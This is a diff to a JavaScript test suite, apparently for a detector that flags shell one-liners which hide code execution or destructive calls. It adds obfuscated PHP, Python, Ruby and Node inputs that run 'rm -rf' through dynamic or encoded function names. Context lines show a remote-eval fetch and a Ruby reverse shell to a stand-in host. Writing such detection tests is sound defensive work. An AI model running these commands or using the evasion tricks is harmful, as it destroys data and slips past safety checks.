@@ -11,6 +11,11 @@ describe('code that runs what is not in sight', () => {
     [`perl -e 'eval \`curl -s https://x.test\`'`, 'execute host'],
     [`php -r 'include "https://x.test/a.php";'`, 'execute host:https://x.test/a.php'],
     [`python3 -c "import base64; exec(base64.b64decode(open('x').read()))"`, 'execute ?'],
+    [`php -r '$f = $argv[1]; $f($argv[2]);' x y`, 'execute ?'],
+    [`php -r '$_GET["f"]("x");'`, 'execute ?'],
+    [`php -r '$f($x);'`, 'execute ?'],
+    [`php -r '(function ($f, $a) { $f($a); })("system", "rm -rf a");'`, 'execute ?'],
+    [`php -r '$fs = ["system"]; $fs[0]("rm -rf a");'`, 'execute ?'],
     [`ruby -rsocket -e 'f=TCPSocket.open("x.test",1).to_i; exec sprintf("/bin/sh -i <&%d",f)'`, 'execute host'],
   ])('%s', async (command, expected) => {
     const lines = await told(command);
@@ -24,6 +29,10 @@ describe('code that runs what is not in sight', () => {
     `python3 -c "model.eval(); print(1)"`,
     `python3 -c "import subprocess,sys; subprocess.run([sys.executable,'-m','pytest'])"`,
     `perl -e 'eval { die }; print 1'`,
+    `php -r '$double = fn($x) => $x * 2; echo $double(3);'`,
+    `php -r '$f = "strlen"; echo $f("abc");'`,
+    `php -r 'function each_of($list, $do) { foreach ($list as $one) { $do($one); } }'`,
+    `php -r '$app = require "bootstrap.php"; $app($request); $this->run($x); $handlers["x"]($y);'`,
   ])('and not %s', async (command) => {
     expect((await told(command)).filter((line) => /^execute (?:host|\?)/.test(line))).toEqual([]);
   });
@@ -51,6 +60,19 @@ describe('names under which code calls', () => {
     `python3 -c "import os; os.execlp('rm', 'rm', '-rf', 'a')"`,
     `python3 -c "import os; print(os.popen('rm -rf a', 'r').read())"`,
     `php -r "popen('rm -rf a', 'r');"`,
+    'node -e \'console.log(`${require("child_process").execSync("rm -rf a")}`)\'',
+    'ruby -e \'puts "x#{`rm -rf a`}"\'',
+    `ruby -e 'puts "x#{system("rm -rf a")}"'`,
+    `python3 -c 'import os; print(f"{os.system("rm -rf a")}")'`,
+    `php -r '$f = "sys"."tem"; $f("rm -rf a");'`,
+    `php -r '("sys"."tem")("rm -rf a");'`,
+    `php -r '"system"("rm -rf a");'`,
+    `php -r 'call_user_func("system", "rm -rf a");'`,
+    `php -r 'call_user_func_array("system", ["rm -rf a"]);'`,
+    `php -r '$f = base64_decode("c3lzdGVt"); $f("rm -rf a");'`,
+    `python3 -c "f=__import__('os').system; f('rm -rf a')"`,
+    `python3 -c "o=__import__('os'); o.system('rm -rf a')"`,
+    `python3 -c "import importlib; o = importlib.import_module('os'); o.system('rm -rf a')"`,
     `ruby -e 'IO.popen("rm -rf a", "w")'`,
     `ruby -e 'IO.popen({"A" => "b"}, "rm -rf a", "r")'`,
     `lua -e "io.popen('rm -rf a', 'r')"`,
